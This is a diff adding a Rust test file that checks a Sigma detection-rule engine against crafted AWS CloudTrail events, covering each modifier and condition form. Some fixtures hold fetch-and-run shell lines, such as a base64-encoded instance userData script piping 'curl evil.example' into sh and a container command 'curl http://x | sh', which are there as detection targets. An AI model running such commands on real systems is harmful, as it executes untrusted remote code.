@@ -1,0 +1,202 @@
+//! Sigma rules written for these tests, run over crafted events: every modifier and condition
+//! form with a match and a near miss, fields in typed columns, in payload JSON and through
+//! arrays, absent fields, other logsources and unsupported constructs named.
+
+use std::collections::BTreeMap;
+use std::io::Write;
+
+use base64::Engine as _;
+use trailhound_alert::sigma::{load, run};
+
+use crate::{converted, engine};
+
+fn event(
+    id: &str,
+    minute: u32,
+    name: &str,
+    source: &str,
+    extra: serde_json::Value,
+) -> serde_json::Value {
+    let mut e = serde_json::json!({
+        "eventVersion": "1.09", "eventTime": format!("2024-04-02T08:{minute:02}:00Z"),
+        "eventSource": source, "eventName": name, "awsRegion": "eu-west-1",
+        "sourceIPAddress": "203.0.113.9", "eventType": "AwsApiCall",
+        "userIdentity": {"type": "IAMUser", "userName": "alice", "arn": "arn:aws:iam::111122223333:user/alice"},
+        "recipientAccountId": "111122223333", "eventID": id
+    });
+    if let (Some(o), Some(x)) = (e.as_object_mut(), extra.as_object()) {
+        for (k, v) in x {
+            if v.is_null() {
+                o.remove(k);
+            } else {
+                o.insert(k.clone(), v.clone());
+            }
+        }
+    }
+    e
+}
+
+fn lake() -> std::path::PathBuf {
+    let script =
+        base64::engine::general_purpose::STANDARD.encode("#!/bin/bash\ncurl evil.example | sh\n");
+    let records = vec![
+        event(
+            "s1",
+            1,
+            "ConsoleLogin",
+            "signin.amazonaws.com",
+            serde_json::json!({
+            "additionalEventData": {"MFAUsed": "No"}, "responseElements": {"ConsoleLogin": "Success"},
+            "userAgent": "Mozilla/5.0"}),
+        ),
+        event(
+            "s2",
+            2,
+            "RunTask",
+            "ecs.amazonaws.com",
+            serde_json::json!({
+            "requestParameters": {"enable": false, "containerDefinitions": [
+                {"command": ["sh", "-c", "curl http://x | sh"]}, {"command": ["id"]}]},
+            "userAgent": "Boto3/1.34 Python/3.11"}),
+        ),
+        event(
+            "s3",
+            3,
+            "PutBucketVersioning",
+            "s3.amazonaws.com",
+            serde_json::json!({
+            "requestParameters": {"bucketName": "b", "VersioningConfiguration": {"Status": "Suspended"}},
+            "errorCode": "AccessDenied", "sourceIPAddress": "10.1.2.3", "userAgent": null}),
+        ),
+        event(
+            "s4",
+            4,
+            "UpdateLoginProfile",
+            "iam.amazonaws.com",
+            serde_json::json!({
+            "userIdentity": {"type": "IAMUser", "userName": "mallory", "arn": "arn:aws:iam::111122223333:user/bob"},
+            "requestParameters": {"userName": "bob"}, "userAgent": "TruffleHog"}),
+        ),
+        event(
+            "s5",
+            5,
+            "RunInstances",
+            "ec2.amazonaws.com",
+            serde_json::json!({
+            "requestParameters": {"count": 7, "userData": script}, "userAgent": "aws-cli/2.15 -x /y"}),
+        ),
+    ];
+    let dir = tempfile::tempdir().unwrap().keep();
+    let day = dir.join("AWSLogs/111122223333/CloudTrail/eu-west-1/2024/04/02");
+    std::fs::create_dir_all(&day).unwrap();
+    let mut gz = flate2::write::GzEncoder::new(
+        std::fs::File::create(
+            day.join("111122223333_CloudTrail_eu-west-1_20240402T0810Z_s.json.gz"),
+        )
+        .unwrap(),
+        flate2::Compression::default(),
+    );
+    gz.write_all(
+        serde_json::json!({"Records": records})
+            .to_string()
+            .as_bytes(),
+    )
+    .unwrap();
+    gz.finish().unwrap();
+    converted(&dir)
+}
+
+/// (rule title, detection YAML, the events it must find).
+const CASES: &[(&str, &str, &[&str])] = &[
+    ("case-insensitive equality", "sel: {eventName: consolelogin}\n  condition: sel", &["s1"]),
+    ("cased", "sel: {eventName|cased: consolelogin}\n  condition: sel", &[]),
+    ("payload fields, AND", "sel:\n    additionalEventData.MFAUsed: 'No'\n    responseElements.ConsoleLogin: success\n  condition: sel", &["s1"]),
+    ("through an array", "sel: {requestParameters.containerDefinitions.command|contains: CURL}\n  condition: sel", &["s2"]),
+    ("array element, whole value", "sel: {requestParameters.containerDefinitions.command: id}\n  condition: sel", &["s2"]),
+    ("array element near miss", "sel: {requestParameters.containerDefinitions.command: cur}\n  condition: sel", &[]),
+    ("object text contains", "sel: {requestParameters|contains: suspended}\n  condition: sel", &["s3"]),
+    ("null is absent", "sel: {errorCode: null}\n  condition: sel", &["s1", "s2", "s4", "s5"]),
+    ("not on a present field", "sel: {eventSource: s3.amazonaws.com}\n  filter: {errorCode: AccessDenied}\n  condition: sel and not filter", &[]),
+    ("not on a missing field", "sel: {eventSource: s3.amazonaws.com}\n  filter: {userAgent: Mozilla*}\n  condition: sel and not filter", &["s3"]),
+    ("fieldref", "sel: {userIdentity.arn|fieldref|endswith: requestParameters.userName}\n  condition: sel", &["s4"]),
+    ("cidr", "sel: {sourceIPAddress|cidr: 10.0.0.0/8}\n  condition: sel", &["s3"]),
+    ("re with i", "sel: {userAgent|re|i: '^truffle'}\n  condition: sel", &["s4"]),
+    ("re is cased", "sel: {userAgent|re: '^truffle'}\n  condition: sel", &[]),
+    ("exists false", "sel: {userAgent|exists: false}\n  condition: sel", &["s3"]),
+    ("gt on a payload number", "sel: {requestParameters.count|gt: 5}\n  condition: sel", &["s5"]),
+    ("gt near miss", "sel: {requestParameters.count|gte: 7.5}\n  condition: sel", &[]),
+    ("string vs boolean", "sel: {requestParameters.enable: 'false'}\n  condition: sel", &["s2"]),
+    ("windash", "sel: {userAgent|windash|contains: ' /x'}\n  condition: sel", &["s5"]),
+    ("base64offset", "sel: {requestParameters.userData|base64offset|contains: 'curl evil'}\n  condition: sel", &["s5"]),
+    ("base64offset near miss", "sel: {requestParameters.userData|base64offset|contains: 'wget evil'}\n  condition: sel", &[]),
+    ("wildcards and lists", "sel: {eventName: ['Run?ask', 'Put*', '*Profile']}\n  condition: sel", &["s2", "s3", "s4"]),
+    ("escaped star is literal", "sel: {eventName: 'Run\\*'}\n  condition: sel", &[]),
+    ("all", "sel: {userAgent|contains|all: [aws-cli, ' -x']}\n  condition: sel", &["s5"]),
+    ("neq", "sel: {eventSource|neq: [signin.amazonaws.com, ecs.amazonaws.com]}\n  condition: sel", &["s3", "s4", "s5"]),
+    ("1 of, all of them, parentheses", "sel_a: {eventName: RunTask}\n  sel_b: {eventName: RunInstances}\n  _skip: {eventName: ConsoleLogin}\n  condition: (1 of sel_*) and not all of them", &["s2", "s5"]),
+    ("list of maps", "sel:\n    - {eventName: ConsoleLogin, userAgent|startswith: mozilla}\n    - {eventName: RunTask, userAgent|endswith: 'Python/3.12'}\n  condition: sel", &["s1"]),
+];
+
+#[tokio::test]
+async fn sigma_rules_match_as_the_specification_says() {
+    let rules = tempfile::tempdir().unwrap();
+    for (i, (title, detection, _)) in CASES.iter().enumerate() {
+        std::fs::write(
+            rules.path().join(format!("r{i:02}.yml")),
+            format!(
+                "title: {title}\nid: 00000000-0000-4000-8000-{i:012}\nlevel: high\ntags: [attack.t1078]\n\
+                 logsource:\n  product: aws\n  service: cloudtrail\ndetection:\n  {detection}\n"
+            ),
+        )
+        .unwrap();
+    }
+    // Skipped with a reason, never silently: another logsource, keywords, a correlation; a
+    // collection (`action: global`) gives its logsource to the rules after it.
+    let sub = rules.path().join("more");
+    std::fs::create_dir(&sub).unwrap();
+    std::fs::write(sub.join("win.yaml"), "title: win\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image: x}, condition: s}\n").unwrap();
+    std::fs::write(sub.join("kw.yml"), "title: kw\nlogsource: {product: aws, service: cloudtrail}\ndetection: {k: [evil], condition: k}\n").unwrap();
+    std::fs::write(sub.join("corr.yml"), "title: corr\ncorrelation: {type: event_count, rules: [x], timespan: 5m, condition: {gte: 3}}\n").unwrap();
+    std::fs::write(sub.join("coll.yml"), "action: global\nlogsource: {product: aws, service: cloudtrail}\nlevel: low\n---\ntitle: from a collection\ndetection: {s: {eventName: RunTask}, condition: s}\n").unwrap();
+    let set = load(&[rules.path().to_path_buf()]).unwrap();
+    let skipped: BTreeMap<&str, &str> = set
+        .skipped
+        .iter()
+        .map(|s| (s.rule.as_str(), s.reason.as_str()))
+        .collect();
+    assert_eq!(skipped.len(), 3, "{skipped:?}");
+    assert!(skipped["win"].contains("is not AWS CloudTrail"));
+    assert!(skipped["kw"].contains("keyword"));
+    assert!(skipped["corr"].contains("correlation"));
+    assert_eq!(set.rules.len(), CASES.len() + 1);
+
+    let e = engine(&lake());
+    let out = run(&e, &set.rules, 0, 4_102_444_800_000_000).await.unwrap();
+    let rows = trailhound_query::output::text_rows(&out.batches).unwrap();
+    let mut found: BTreeMap<String, Vec<String>> = BTreeMap::new();
+    for r in &rows {
+        found.entry(r[0].clone()).or_default().push(r[3].clone());
+        assert_eq!(
+            r[1],
+            if r[0] == "from a collection" {
+                "low"
+            } else {
+                "high"
+            }
+        );
+        if r[0] != "from a collection" {
+            assert_eq!(r[10], "attack.t1078");
+            assert!(r[12].ends_with(".yml"), "{r:?}");
+        }
+    }
+    let mut wrong = Vec::new();
+    for (title, detection, want) in CASES {
+        let mut got = found.remove(*title).unwrap_or_default();
+        got.sort();
+        if got != *want {
+            wrong.push(format!("{title} ({detection}): got {got:?}, want {want:?}"));
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    assert_eq!(found.remove("from a collection").unwrap(), ["s2"]);
+}
